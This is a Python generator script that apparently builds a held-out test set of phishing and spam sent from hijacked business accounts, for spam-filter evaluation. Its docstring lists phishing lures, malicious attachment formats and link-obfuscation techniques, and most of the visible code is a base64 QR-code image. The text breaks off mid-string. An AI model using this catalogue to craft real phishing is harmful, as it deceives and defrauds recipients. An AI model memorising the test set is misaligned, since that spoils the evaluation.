"""gen_spam_c.py - writes 50 messages (spam/) of the third held-out modern set:
what attackers send from hijacked accounts of the businesses in gen_ham_c.py
(they log in with a stolen password and send through the hosting provider's
smarthost, so From is the real account, sometimes with a changed display
name, sometimes with a Reply-To elsewhere), as seen in 2024-2026:
credential phishing for Microsoft 365, Google Workspace, the hosting
provider's webmail, Apple, Netflix, Amazon, Booking.com, Meta, LinkedIn,
DocuSign, Adobe, Dropbox, WeTransfer, Zoom and Teams; HR and IT lures; bank
and payment phishing in eight languages; parcel and tax-refund lures; QR
codes; malicious attachments (web pages, SVG, SHTML, PDF with a link,
OneNote, disk images, archives with shortcuts and scripts, installers, macro
documents, RTF); business e-mail compromise; advance-fee, romance,
investment, sextortion, domain-renewal, callback, pharma, casino, loan and
stock spam; a Bcc mailing and a hijacked reply chain. Links go to lookalike,
brand-in-subdomain, hyphenated and IDN hosts, free hosting and site
builders, cloud storage, IPFS, forms, open and tracking redirects,
compromised WordPress sites, shorteners, IP addresses and URLs with @.
"""
import base64
import random
import struct
import zlib

from gen_lib import *

random.seed(4242026)

# ---- pictures: QR codes (a JPEG to attach, a PNG to show inline) ----
QR_DOCUSIGN = base64.b64decode(
    "/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAA4KCw0LCQ4NDA0QDw4RFiQXFhQUFiwgIRokNC43NjMuMjI6QVNGOj1OPjIySGJJTlZY"
    "XV5dOEVmbWVabFNbXVn/wAALCAGMAUABAREA/8QAGwABAAIDAQEAAAAAAAAAAAAAAAUGAQMEAgf/xABQEAABAwMDAgMFBAQHDQYH"
    "AAABAAIDBAURBhIhEzEiQVEHFDJhcRUjgZFCobHRFlJVcpKTwSQzNDU2N0NEVGKys8IXJYPS4fEmRlZzhJSj/9oACAEBAAA/APpK"
    "IiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIiIox9+tccjo5LjSte04LTIAQV2U9VDVM3wTRyt9WO"
    "BW5ZREWuWRsTC97msaOSXHAC4or1bZpOnFcKV7/QSjKXG8UVsMQrZ+kZjhnhJyfwHzXex24Ar0iIiIiIiIiIiIiIiIiIsL5hYLXS"
    "XbVl1hrYerG0vcBkjB3Y8vqvdVB/BPV9IKGR/utRtLoyfInBHz9Qpy6ajuEt+daLJBG+aP45Jew9fyXqy6jq33iW0XiGOKqaCQ+M"
    "+F2Bn9i5YtR3q8188VipoBTwHBkm8/1rvvF3utr0u2smjhirhIGObjc3GT2Xm6X2spNHU10iMXvMrYy7Lct8XyXBqo1900ZQ1MbX"
    "PL9sk7Yx3GPT0yoq3zaQqY4oZ6WajnGMyOcT4vrnH6lOa3rvc32zbT007ZH8GaPfjtyF06n1FUWuelobfCySsqMY3dmjsOFGV2pL"
    "/brjRUdZBTxPlcNzmjcHgnHHPC7NR6iuFr1DTUVJGyaORoPTI8TiSeM+S10eo7vBqSK2XinhYJ8ben+jntznnthXUdllERERERER"
    "EREREREWF8yoftiz6huFXBZ6ipEzntb4SBy7Oc4+SkKGzXa+agiul5hFNFCQWRefHIGPTK9V1uudk1VNd6KjdXU84O5jPiGe/wCs"
    "LNmtVwuWppL1caY0ke0tZG4+I5btH6lz22nvWlK2qjitr6+lmcC10Xf5KZvVLX37SLmvpehV7uoIM88Ht+SrVdHf63TMNuNpljjp"
    "trS7B3SY4GGqzdS70GmrZ9n0YmmYwCaF4wQMftyq7eYrvqQwwfYHub2v3OmcMfLuQOPzUhrC11clPZYaaCWo93w17mNJxgNGT+S2"
    "attdcbpQ3e3QmofAAHRDvwfRQeoKqur79aX1lH7o4uaI4S7LviHJ+v8AYp2+UNVNrq21MdNK+nYG75GtJaME9ysXyhq5td2yqjpp"
    "XwRhgfI1hLW+I+auzTkLKIiIiIiIiIiIiIiIixgJgJgJtCwGgLOAm0JhMBNowoq82Vl2bDmpnpnwklr4XYPP/suK26So6KvFbNPP"
    "WVLfhfO7OFYgOEwEWURERERERYJAGTwF56ke0O3t2nsc8FZ3D1CzkeqwHtJIDgSO4z2Wcj1TITI9UJA7kJkeqZHqhIAySMIHAgEE"
    "EHnhMhYc9rcbnAZOBkrOQmR6rBe0EAuAJ7c91nI9UymR6pkeqZCxub6hA4HsQfogcPIjhZyPVMj1QOB7ELBe1uMuAzwMlZyPVMhM"
    "pkeqZHqsB7XZw4HBwcHzQva0Zc4AepKzkeqZHqFleXjLSFWfd3U9dWRNJkgoYveKeHHAe4H9mDj6rDa6pZH91WGpdLRunOGt+7cM"
    "Yxgdjk8H0UjTVpmukEDZg9hpBI5owfFkcrhrfeI6+7TwVLojDDG/AaDuIDjznyXmvuc7JHTwSlscLo2va97QCXYOAMZPB9Quiatq"
    "WV7rc2U9aWZronYHERGXflgj8Que3V9fU1EUji7a6ZzJI3OYGtaCRwM7sjA7qSrnTvu1HTRzuhjkY9z9oGTjGO/1UcyvrpK6UMc4"
    "dKp6XTLowzYDjJyd2SOV00NTLOZp31Z6rHyNFKA0Dw5wPXPGVxUNdXVETZZHl8csL3SNeY8NO3I2gHPfjBXptwqYKeGnEgMtXBD7"
    "sQ0ANcQA75cfEsx19fJWyhrnfdVPSMbnRhmzIGTk7skcrxNLLUPpZpqo7nXAR9DA8Ia44+eeM/ipS6zyRmngge5kspcQQ5rRgDnJ"
    "IPr6Jaq2Wpsjal218oa74eziCf24UR7xMJ6CqNV71K6mmlEWB4Xbewx5eS2tuNTCzfHUitL6N05G0eBwxjt5HJ4PouqSokp7aJ2X"
    "E1Bc6Iud4cNaXDJ47DutVbXzvqqqKnqQ1raiCMEAHbu+JeZKiugFY73x720k7GNBY3xtdtyHcfPywvM1fXvr6kRFzTBMGNjLmNY5"
    "vHJyd3OfJbTU1Q94qPeXFsdcIGxbRjYSBzxnzW+wR4bU5qJHuFRICxxHh8X0yuBsstJHcHx1bw81uw7sERtcW5fjH/opS1Tyvqay"
    "ndP7xHA5uyUgZORkg444/tXE+qrI6O6VbZnSGnleyOLaMADHJ8zjOe68xVFw6FSY5XvEcbZWOeYy4kHJHhPYhDXPrJYaqN+aV1Uy"
    "OIbQc4adxHzycfgvFsrK+rfA9z3N6wcHtcYwGHBxtA8WQR2K5xeq57Q8SECRopWjaOKjjJ/b+Sn7pO+no2BrniSR7Y2uaQOT6kjA"
    "/JRENdWTQshNSBIK0U7pGEOJbjOOwGfwW33up6raM1TmN96dEZyBuwGbgO2MnOM4XRp92aSrPVEp96l+8x8XPdR0tZOKKpiqZTJO"
    "Yw/A2PiI3gZbjt9CttRXVAe+QVvTeK0QCDA+DcB9ckcrbBU1QLKh1S5zXVxg6ZaMbNxA+eQrGsLwIYw9zw0BzuC4DkrxFSwQlxii"
    "ZGX/ABFjQM/VZipYITmKGOM+rWgLJp4iXkxtJeMOyB4h8/VeHUdO9+90ETnAYBLASAvZgiMolLGmQDaHY5A9MryKSnE3WEMfV/j7"
    "Ru/NbDGwvDy0Fw4BxyFrdR075hM6GN0o7PLQSPxWfdYOt1ulH1cY37Ru/NeW0dOx7nthjD3/ABODBl31K9e7Q5jPTZmMYYdo8P09"
    "Fh1JTulEroYzIOzywZH4oaSnM3VMMZl779oz+a9S08MzQ2WNkgByA9oOD+KzHDHG3axoa30aMLwykp45DIyGNrzyXBgB+fKRUsEB"
    "cYomRl3LtrQM/VGUdOxr2sgja2T4wGAB319VhlFTMGGQRtGQcBgHI7L2aeJwcDG07yC7wjxEdsry+kp5JRJJDG+QdnOaCR+Kz7tF"
    "gjptwXbiNo5Pr9UbTQskdI2NjZHfE4NAJ+p81g0kBe95ijL3jDnbRkj0K9Q08UDAyGNsbB+i0ABGwRsJ2tDdxycDGSvMNJTwBwhh"
    "jj3d9jQM/kstpoWsaxsTGtYctAaMNPqFhtJAyYzNhjbKe7w0bj+KyKWAf6Jnxb/hHxev1+a9SQxysLJGNew92uGQV5bSwNADYY2g"
    "HcAGgYPqsPpYHtc18THNecuBaCHH1K9MgjjaWxsaxp5w0YWttDSsa5rKeJof8QDAM/Vc81ognrxVSve4hwcGYbjI7c4z8+67BBEA"
    "B02YDt+No7+v1W1ERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERE"
    "RERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERERE"
    "REREREREREREREREREREREREREREREREREWFyTXShppTFUVlNDIO7ZJWtP5Erx9tWv8AlKj/AK9v70+2rX/KVH/Xt/etlNcqOrkL"
    "KaqgmeBktjkDiB+C1uvNtY4tfX0rXNOCDM0EH81unr6Wmaw1FRDEH/CXyBu76Z7re5wa0uJAAGSVwi92v+UaP+vb+9Z+2rX/AClR"
    "/wBe3966Keqgqo+pTyxzMzjdG4OGfqFuJwudtdSuqfdhURGoHeLeNw/DuujyWiGtpZ53wRVEL5mfExrwXN+o8l0Lnqa2mpNvvNRF"
    "AHfD1Hhufpleai4UlLt95qYYN3w9SQNz9MrV9tWv+UqP+vb+9Ptq1/ylR/17f3r1HdrdLI2OKupZJHHDWsmaSfoMrsBysoiIiIiI"
    "iIiIiL5ZqG2w3b2mihnL2xSsbuLDg8R5/sXXU6R0lSTugqbxJDMz4mPnYCPw2rNJo7StdMYaS6yzy4J2xzMJx/RWrQlIyh1xdKSI"
    "uMcMckbS7uQHtHKqVXb6u4X65Mo6aWoc2eQuEbckDceVeKK3Vuqo2xaipJ6FlEB0DGws3Z4Od2c9h2Voff7JNE6nF1pCXjZgSjPP"
    "CgR7NbOf9Yrf6bf/ACqv3XQwptQ0VLRw1ktBJt602AdmXEHnGBxhdFzvFRoapNptbIpafaJt1QC52Xd+xHHC6dNa5uV4vtNQ1MVK"
    "2KUuyWNcDw0n1+S7L1T0tBe6i6WmX3q/5A9zyHcEAE7Rz8PPdSlZdb3FpenrIKDfcXlvUg6bjtBznjOfIKvXAS6XpGaigY77SryG"
    "zxTjwMLgXOAAwRyPMrsveuTS2qhmt81HPVSgGaPO7Z4cngHjla6SirtZf5RUktEymAfA6JhZv3d/iznsFye02JslbZonfC7c049M"
    "tW6t0Vpe3vaytuk1O5wy0STMaSP6K0RaU0hPKyKG8vkkedrWtnYS4nsOy4m2amsftFtlHSukdHlr8yEE5IPoB6L6uBhZRERERERE"
    "REREXzmq/wA8MH80f8oqra9/yxuH1Z/wBd3sy/yp/wDx3/tCm9Jf5x75/wCL/wAwKEqZr5pO8V9dHTCFlXM9rXytDg4bieOV9bpn"
    "GWkie/G57ATj5hVObQVkpo5KmMVHUiBkbmXjI59FC2LU+qbxURugp4pqYStZM9kQG0E8+fopvV1z1BbqrqWqnbJRMh3yyOYDtIJz"
    "5+gC+Y3i7VV6rfeqws6u0M8DcDA7K76KtdqpLNT6hrJHwzROeC8u8A5Le2Pmtdqq4K72rPqaWVssD2Ha9vY/dgftUnd7hrGK61LL"
    "fQNkpGv+6eYwcj65VV1XW6mqbdEy90bYKcSgtcGAZdg/P0yq9V2i4UNNDUVVK+KGf+9vOMO4z+xfTq3UFbU0lGzSzoq2SNgFSA3P"
    "TGBjvj5qN9pGftGxg99x/wCJq5Pax/jWg/8AsH/iVW0uD/Ca2envMf8AxBXa9/517Z/Nj/6l9FCyiIiIiIiIiIiLC+ZXitgt/tTZ"
    "V1T+nBGxu52CcZjI8vmuq4VOhbnWy1dZO988hG5wEozgY7AfJbLVX6ItFYKqhqXRy7S3JEruD9R8lyaKniqte3epgdvhlbI5jsYy"
    "C9pHdRV0lv2qrjV2+MNqY6OZ5Y0BrC0ZLRycZX0iyXqgr4DBSzdSSlY1so2kbT28xz2PZV293yvusf8A8LStnhja4VXhAxnt8Xyz"
    "2XD7PZXU2mL1NEcPjy9pxnBDMhSel7vJetK3Ce+Sh8TXPZI5rduGbRn4fqVWJ7FbZrpHcKGJztOR4E8u45BHxcHxeY7BSfg6fThy"
    "dFn++P8APPn/AL/x4/8AZbbhR2mzaf8A4Qac3NnBDY5XFzhgu2nwu/HyUXNqLWMFqjuUskbaOXAZJ04+c9uO/kVaq6a112lLbUak"
    "kPTlax5c3cMyFp/i/ioR2yRobqo7bK3/ABeW8Ejy+Hn4fVQDTfNHyulhaKaGtdhhO1+5oOR644KnvaU9rK6yPccBu5zj+LV3Xm66"
    "Kvc0ctwqXSPjbtaQ2VuBn5BclJLoKjqoaiCd7ZYXh7D96cEdvJctTcqS7e0u21VDL1YfA3dtI5G7PdfT2nOV6RERERERERERFjyV"
    "J1HUaSjvErbxTufWbW7nBrzxjjscdl12zTOlrpQx1lLbw6GTO0uc8HgkdsqHrxoS31s1JUUbmzQu2uAEhAP5qU0nPpiW4yNscDo6"
    "gREuJa8eHI9T64Xq+WGroyKjS0baasneTUP3/GDz+lkd/RVG636itoiGm5H01S8kVp2E7yP52fPd2Vw00+x1VFXssEJYXNxLkOGS"
    "Qcd/xVRh09qyz22rZC6OGlcxzpmiRh3DHPf5KI0vcasV1NaRMfcKudrZocDDw7APPft6L6FcbhpqwQS2SoifFDI3e+JrXOBB+efk"
    "qXW1st1rjY9NyFtsnA2QOG0Egbncu57jPdaPd9QTTnSvVaenz0Nzdo/T+LHzyrlctPXGo0JRWqONhq4SwuaXgAYz5/iFTWU2oL1K"
    "6wGVsvuGfunOa0N2+Hg457pHTag1E91q6rZ/s/jpuc1oZjw8HzVgDHULWN119/EcNow3xbSPi+DHlt7q5XWz2y5xMluNMJ2wsJbl"
    "zhgdz2PyVetts0dc6Gpq6Wh3QU2TIXbwRgZ7Z9FF++ez7/ZH/wBGT967rPVaKfdqZttpnNrC/ERLXjB/E4V9Z2K9IiIiIiIiIiIi"
    "weyr+oaGyQ09RdbnQRzmMDe/bucRwAqXdZrtT2112slY6ksZIEMDXbXM5wfD/Oye6pNTUTVdTJUVEjpJXnLnu7lX7T2p9NWekgcK"
    "SWOtEIjmkZEMuPGec+oVwuupKG1W+lrakTdGqAMexoJ5GeeVSPaJbqCjgt89DSxwmoL3OLRgu4BGfzUXpKhvtZHVGx1gpgwt6uZN"
    "uc5x5H5rpvD9UW+rp7dW3R73Vo2gNky0gnbg8Lso7bT2AfZddBGb9Uu3UdRHyIyeGndxjDgfJTjtK1dbp+obdGU9TeXAiOoe4nA4"
    "xzj6+S+d1lLXaavPTMwirIQHB8Ts43DyOPQroszrtd9QtfR1bm3GRpPWe7BIA55x6BW37D1zn/G7f68/+VUuWtuVovNYRVvjrQ9z"
    "JpWO5cc88/ULu0vBe7nX1b7RWdGpLd8ry/buBP09V9C1PWWigpaH7fpvenEEMIZuw4Abj3HyVU1NrE3OSlhslRU07SHMkDhtDs4A"
    "9fmui06Q1Jb5BE2qgjo5JAZ4mSnD29iCMenCkLnohk2oKKehpaWO3x7evGSRu8Rzx9MLtI01a9SU1vitrYrg7Do3sj4bnPOc/I+S"
    "tzOy9IiIiIiIiIiIiwey+fXColn9pcdtmlfJQvaN1M92Y3fdk8t7d+Vtu9vfZa2a5VZbLYGYaLezloJAAOw+H4uVGTSWnVsf2ZZL"
    "dHRVmer1ZImtG0dxluT5hS+nGWOpqnWSW1QSV1FFtmmdC0te5pDSQe/JPmpDWGm575b6SmonwQiB+cPyBjGABgKh2bUFPRyVMWoI"
    "5rkGeCEPAkEZGQcbjxnj8k0jqWmsNLcY5opnPqcdMx48OAe/PzW3TVpumpauG4SVwlbRTsz13uc7AIdgd1Y9eWCtq6z7YpaiOFlH"
    "T5OSQ/LS45GB81S7Rqi4Ud1pqitr62emjfmSPqk7h6YJwpelr6PUvtFgqPd91NKNpinaDnDD3HI7hb9W6dq7NVVV8t80VJTBzWsZ"
    "ASxzcgA4wMd1PaJ1TFcY6a2SCofWMiLnyyEEOIPrnPmqnrnTVVbqmouss0Loaqpdta0ncM5PPHyVo0Bpuqs7n1s8sL46uBhY1mcj"
    "ODzkKRt91tWq5aqB9B1HUX+0Ma4c5HHf0VZ9mtBR1rbi6ppYZjFIzYZGBxb37fkvolZFJLRzxwv6cr43NY7ttJBwVGaYt1xt1BJF"
    "dKv3ud0hcH73Ow3AGMn6H81Iy26jkqm1clLC6pZjbKWDcPTBXUzHOF6RERERERERERFg9lS79q232a9yQS2vrVMbWnrN2g8j1PPy"
    "VRdqxkmqJLjUQzTULx/gj37hnbjODx35Vh1RPTv0VT3O3U7aF80jCHRgNeAc8ZH0VYuOpYqiyUlLSQSU1bFt6tU1wDpcDByRycnn"
    "le7zbbtZ7XRV0l4mlbVgFrWyPBblu71Vy0jpIWwTz1zqesFSxjmh0edvcnv9V61RpRlxfTVFJ7tTMpQ572CPHU7Hy+h/Ne7VeqW7"
    "acu09BR+49KN4IaAMnYSDwqlpvWjLXbJaW4QT1xkeXbnSZGCANvP0/WtdNX0d713bpoKJkFO5zWGEtaQcA84HCs98qKSour9OUNH"
    "HR10rWllZG0N2cbj257DH4qEsFNVU2u/sq4VTq2ONrtzZHFzHHZkcH6qVr6FukrzU6jeGS00rum2niG0t3fq8lzVd0Z7Qoxa6SJ1"
    "HJCfeC+U7gQPDjj+conU2pnyUdNa6Xr081A7pPlbJgP2jb5fRfTqClggoY3wwxxufE0uLWAF3HnjuvlekdQx2VtdSvhkkdWOa1r2"
    "uA2HkZ/Wp4aSvFuPvs17fLHTHrOj3v8AGG8kcnzxhQl2v0+p7/RsoJaigbKGw4MpxkuPi4+v6l1UdJcbPrm3W+quU1SHOa533jsE"
    "HPGCfkvqwGFlEREREREREREWF85rWA+1uEvaDHsGcjj+9FTkemYWasfeveoTG4Ee77Bj4cd8/LPZU6rs0l+1zcKBtQ6CIOc9rtpc"
    "3jHAGceakTq+Gwj7LktLZzRf3OZi4N6hbxuxg4zhY9nsprr9dJpmHpvZvax/Ibl+eMrfK92hZpJXym4i4OIDA7Z0tpz88/F8uynd"
    "N6dfaaWujdX+9e9AAHbjZwR6n1/UoOikGhaqC0vArvtGRrup8AZzt7c5XDrqijrdY26jicyITxsZua0YGXuGcBbx7MXx+MXgNI5z"
    "0cf9SqV/tc1nvElK2ofUuY1p6wBGcj6lWCx65babdBRutZqJogQZephzskn+KT5qZ1nWuuugqesELozPKx/Tzkt+JfMIzKxx6Ze1"
    "3Y7cgrGJHuPDnO8/Mqy6WsNRf3VDHXCSk6IaRuBO7OfmPRX7TunI9M01ZJLUR1ZkAeMxhuNoPHJK82/UjNQ6bu03Q92MUT2Bpk3Z"
    "8BOewXz+0aiZb9P1ltNF1Zagu2zB2CzIA9PLGe6m9D6dfWSUt6krS18ExHSe3Jdj5k/P0X1FvmvSIiIiIiIiIiIsHsV8819fqlgr"
    "LQ2gc6BzWE1OTxyD6Y+XdVt2mN2kY71FPLJK8gdBsef0tvfv5ZVr0Le6uX3e0TW58McMJ+/cHDJH1HzSvE2r7nVWOpgdRQ0kjpGV"
    "AaXdTaduOcDnOVL325T6YtNC2lpHVzgBCcZBAa3vwD6L5/q7TzbMyjqRUvldWlzi1zcbOxx3+amfeotBFrKGRlz998TsuxsLfLjP"
    "fP6lA6outdf6mCeS2y03QYW8NceM5znC69KWTrW2S/CV5lt8pcyANz1C0B2M/POFdqOuGqtOz09WG2+eoJiEZdlwHHIBwSo+zVxs"
    "N9g0o2Ns8Yy73lxw7lpf8P6lA3uvnsevqy5so3TMZgDcCGnLAO+F9CtVzZXWWlr59lOJ27sF/Dflkr5qbxPp7Vl0uDKPrRTSPY0u"
    "yGkF2cg457KWY/8Ag2ftmhAuM1yGZKdv+h3eLyye5wvXtEf7/TWl1MOs4FzpGxeIsyG98dl59p0M0klsMMcjw1j8lrScfD3ULpPS"
    "sWoKKpnlrXUwheG8MBGMZzyVZrToKkp7hBWw3U1HQkD8BjcEjnGQVz3vj2qW1o/is/6l9EaML0iIiIiIiIiIiLB7KHvUdDdaSazz"
    "VjIpZsZY17ep3B4B+irlovLbFfhpp7oW0NMDipldtccjfz5dzhdVHrJk+qKm3yvpGUUYdsqOp8WMY5Jx5qNu2ubrb6qbZbonUbZC"
    "yKdwdtkHkQexyB5Lw3WupJGNc2w5a4ZBEUhBHyXnXzjeaW2e44qpI9xmbT+Mxkgd8dvPv6KvXy0W2z11u+z7gKpsjsyHe07MEen4"
    "r6pW1UFfZbgKOeOo+5e37lwfyWnA481X/Z1DLbtPVXvsb6bbO556zdmBtbzz5cKHu9dSye0y3VLKmF8DQzMgeC0fF5rm1HXVFHrN"
    "19oIPeqaJjcSgExE7dp8Q48/VXCCIaz0fF74TTe8Hc7o+W157Z+irsUYute/Rcvgo6LLmVDf747b2z5fpei6faFRst+j7fSRuc9k"
    "EzIwXdyAxyjfZ202utqp7gDRwywtEck/3bX854J7rq9mjgbjfHNIIy0gjz5cpjTOo6jUNuupnhjh93ZgdMnnId3z9FBezqajdZLl"
    "R1VVFC6pfsaHPAcQW44B791YIIqLRVjrIYayOScB1QyOd7WuecYAAHceFUq23qa/6+tlbPFHE/c1m1mcYAPr9V9hCyiIiIiIiIiI"
    "iLB7FVOup7DS6qF0rLk2GvjA+6dKAANuBxjPb5qLu1t0hdrjNW1N7a2WXG4MnYBwMenyVbs1gttz1dU22OeSShY1zo5Y3DLgMeeM"
    "eZW3V810hoG2uejMdspJtlPM5hBeGghvOcHj5K92rUdmitNFHJdKVr2QMa5pkGQQ0ZCrt6I0TsqLP98bkXdTr+IDHI24x/GKpZ05"
    "egC91rqw0eInpnCkNKamqbJKKaMQCnqJmmV8gOWjgE5z6L6Heb3bK+z1tJSXCnnqJoXRxxRvBc9xGAAPMqnUWiXS6XqauenrGXNh"
    "Ijgxjd2xxjPqu6FpZoGWxuBbdXOJbRn++kbw74e/bn6L1oi83KmulPpyqgZDHE15IcwiQcF3PPz9F3Wi21sXtHuFbJSytppA8NmL"
    "SGnt2KrGttRVlxq6m1zNhFPTVLtjmtO44yBnn0Ki7tqKru1spKKoZCIqXAYWAgnAxzz6KfNwodJwwv09VxVctY0CobK4P2YHGMYx"
    "ySrZbbbZtMQywGtMXv4AxPIMnuPDwPVc9L7PbTTVMM8ctZvie14Be3GQc8+FRmuLRLX6no5ZYZvs9sTWzztHhjbuOST5YByoaho7"
    "bQ6/tkVpqfeafc0794dzzkZC+vBZRERERERERERFhU7WWk4bjT1Vwp4ZpbkWtDGtfwcEDt9MrhsegbfPaYJLpBURVhz1GCXGOTjj"
    "6YXRWaa/g9B79pmCWW4ZEe2R24bD34OPQKqasrNS1Ftjbe6QQ04lBa4MA8WDgcH0yo7StPZaipqG3ycwxBgMZDiMnPyB8la34rgG"
    "aw/uWmi/wBw8O8efbOeA3upGhv8AW0tHVx6odHRvkYRTAtxvGDntn5Kk2OmsU1orZLpUGKtaD7u0OI3eHjsPVcVqormxou1FTOfH"
    "Rv3mTgtaW88/qV40zqDU93raaSSCN9udJsllZGBj18/otlzpJ6P2hsvdREY7ZE0b6g/C3wbfr3ICioLzb2e02W5OqmCiLSBNzg/d"
    "gftV2OsdP4/xpD+Tv3Kr1lLoetq5qma4uMkzy9+JHAZJyfJUhlnqLlcaqGzwOqYonEt2kfBng8rqbo+/tcCbZMADk8t/er1fK/St"
    "3bDNU3FpnpWkxBrnDxd+ePkF50triGelndfayCGYPAjAYRkY+WfNSldqbTddSTUs1zi6UzSx+NwOD+CpFFDa4Nf2xlmmM1Juadxc"
    "T4uc9/wX10LKIiIiIiIiIiIi5bjW09vopKqrk6cEeNzsE4ycdh9VQ4tcgaskD60fYuDtPS5zt+mfiU3Z6y8199kqSWvsMrXOp37W"
    "gntj/e9e6r2qLVqu81M9OacS0LJy+EB0YOOQPPPY+a+fzRvpppYJBh8bi1wz2I4K+ge0k7bXZCPNrv8AhavWmRHrCmq5dQ/3R7lt"
    "ERb4NoIJPw4z2C4J9PUF4uNJJpqB01vjeG1RLyCOf945+H0XZfpYdNXens9MehZ6pgfVMOXFwJLXYPccDyUza9TaStNJ7rRVhjh3"
    "F20xyO5PzIXZ9u6e1H/3UKkz+8cdMMe3OOe+PkqpWaWpbXqCWquFMYtPN4D+oSQS0Y7Hd8S54rFbILlJcq6IjTkufd5N7skn4eB4"
    "vI91BstL7tequnsUXWha5z4wXbfu84B8X1CtHsxhfBfLnDINr44g1wz2IdyrZqk34MphYWg5LutnZwOMfF+PZUitsNBeJ6c6XhdP"
    "FEcVZLyMZIx8WP8Ae7LTriwUltu1BSWyEsNSz4XPJy4uwOSuP+Auov8AYP8A+rP3rZYbZV2nW1spq6LpTdQO27geCD6L7OFlERER"
    "EREREREWPJVLVlxguMVTpync51zma0sYW4aezvi+gKp9JpaSy1ArtR08brYwFrw1+45PA4HPdWzTUdyNyE1O8DTjoz7rHkZA4xx3"
    "9e5UJquu1XZpp6r33p0Mk5bDt2EgHJAxj0CsdFpWyVtBTVdTb2STzxNlleXOG5zgCTwfUlVW7aX1ZdXNZUuilghcei0yNG0H6fIB"
    "eLdpbV9rimjoXxQsn4kAkYd35/UrdZ7HqrT2ZBJHDRNeJagNe12Wt7+WewXbebrprUhMcUb5rnKzo0znsc3DjnaM5x3PmomKx0NL"
    "QPs1dTM/hFNkwEOJbg9uc48ioiktN3tmpoqGlLIrmBlhDgQMtJ79uy+g3O1Xe5aIFDUlktzc4F5LgAcPz3HHZQtXG646dg0rTYN2"
    "pNplY7ho25zh3Y/EFrpKcRxModMtFPqCnaG1j88EDh2C7IPix2WyxRVGja6pr9REMFaNrXR+MufnccgdlIXC912omNbpOpc10GTU"
    "b2hnB+HG76FV7QuobfYmVzbjJI0yuYW7GF3bOf2rGqtRW66ahtVZSPkdDTFpkLmEEYfnt9Fa5ta2+vgfSWuolFdO0x0+6Mgbzw3k"
    "/NcdqdTQXimh1G0zaiLgYpG5IDP0eRx6+SvbSTnK9IiIiIiIiIiIiwey4HWuhdcBXmliNY3gTY8Q4x3+iovtAor01lXVvqwbSXMD"
    "Yd/Y8Dtj1W2trqm3+zK2z0c74JcsbvYcHB3cLo01Z7pc2RVGoJmV9vlhEkUcjy7DjjBIx3xn811ya8slDI6j6VU33cmLDYxgbeOO"
    "e3C7NM015gkq57rV+8QSgOgG/cWDk9sccEKIq7jcNVkO0xVy0opcifqu2bie2MZz2KlbPbb0yyXGlu1W2pqJ2ubE4yFwALSOeOOV"
    "TTT0ek6CekucDXXl7TLSzwjd0+MNOTjBBBPZQdsvkjdR0dzuc0s/RcNzjy7Azx+tbtQ39tZqZ90tkk0J2tDHEbXDDcH1Vy0XHqGr"
    "lpblWXEzW6RrvA6Ql2eQOMeoU9dZLTp7qXiekAme4MfLEzL3E/j8lUWadv1VXzXqz1UVNHXEysPULXbHHcAePorFba22ajJtlbTm"
    "pqaBv3plb4S8eEkHPPK96Xq7JVT10VlozTSR4bKemGh3JA8znzVPj9nV4FQ1zzSOZvBcOoeRn6KT1jozeRU2mnpaanhhc6VuS0nH"
    "Pp6L17NrXQ1Nrkq56aKSpiqT05XDluA0jClblp2tqdbUl3YYfdYQ0OBcd3Gewx81bWdivSIiIiIiIiIiIsHsVTdQWC/3C7SVFuu/"
    "u1O5rQ2LqvbggYJwBhb63T9xrdGNtM9UySs3Aunkc4g4dnvjPZcWn9JXGiqGsutTDW29jCG0xLnNDvIhpGOOVprdK6idWTOobwKa"
    "lMh6UTZXtEbc8NAAwMKK0HboajUF1guMMVW6IEEyN3AuD8E8rXqvV5rjBBan1dEYHuZJh20O7Adj8irTo6wVOmqSvdVyxS9UNeOk"
    "TwGg5zkfNVi56ufdtQ2o26WrpoeoxkkZftD8vHcA88Lfr+aGm1nbpqmMSwRxMc+PAO5oe7IwVI132LddE3C4UFqgpixpa0mFgcCC"
    "OQR9VVLJoiuvVtZXU9TTsjeSA1+7PBx5BWSCWojoWaNpJnwXWHn3lji2PGd5wR4uxx2XmrMt8ohpMyudc6Uh8tTKcsft789/0h3C"
    "2NqKq60cOmrXUSUdfbQBLPuLWPDBtOCOe5HcLRQ082g55a+7SCr98+7HQOXbs7iTuwvWvHC109umtANA6qLjIaf7sv4BG7b3xn9a"
    "y3SerHNBGoXf/sS/uVf1JFfrFLHTVl4nn68ZOGTPIx2IOVOaPkfF7PrzJE90cjDI5rmnBBDG9j5KD0pebpU6mt8M9xq5YnygOY+Z"
    "xBGPMZX2YDGVlERERERERERERfLtSxVtx9oJttNXS0zZWNxh7towzPYH5LrGg72f/mB/9J/70/gFe/8A6gd/Sf8AvWvQpqoNX3Ch"
    "qKuWo93jezLnkgkPaMgEqM1dqSCqldTUFM+hngncJJYyGmTBI8vnzyqaXnfuJyc5Vs1Fqp1/mooqMVFGG5Y/7zh24geSk2ez+ptb"
    "23B9fDIykInLAwguDfFgfXCslJVUutLFWyMpGQSkOga+Voc5pxkEH8Vig0vNS6QqrM6pjdJOXYlDTgZx5fgqOySfRmp44J6iSqhp"
    "xudHG4ta7c0+R4814YZdV6zkfQyvoH1A3NcSct2t9R9FfqiWHSGn4KipgbV1EeInzMAD3k55JPK+VV9ylqLtV11M+Wn68jngNfgg"
    "E5xkK5Q6/ofcqeCptclQ6GNrSXua7JAAJ5ULqqzVdsbR1FTXGojqnF0bCSemODjn6jt6L6FqGx1l2noZaSvNI2n+NoLhv5Hp9FXd"
    "fNDtXWJrwHNcWggjII6inrnpqSovtJV0tRHTUcO3q0rWkNkw4k5A4ORxytdVpQv1XS3emkgggg25hbHgkjPPHHmrW3POV6RERERE"
    "REREREXzmp/zwwfzR/yiqzruaVur68Nle0ZZwHEfoBd3s0lkfqjD5HuHQfwXE+YUxpP/ADj33/xf+YFC600s61PNeKgz+9zuOwR4"
    "2Zye+eVI+zBjGTXMzsaBsjx1B/O9VtAZrhxq4mCgFrO4sAD+rnn5Y+H591YrLev4UWmvY+D3JxBhAc/dnc3v2HqvFqtzdHafrd07"
    "ass3VAGNhPhHHn6d1831HfJr5cffY4pKdgYGbQ8kcZ5zx6q6adt7Lz7PRSPnZFNK9w6rxuIw/P8AYuOONszhoqMtZLH4vf29z+nj"
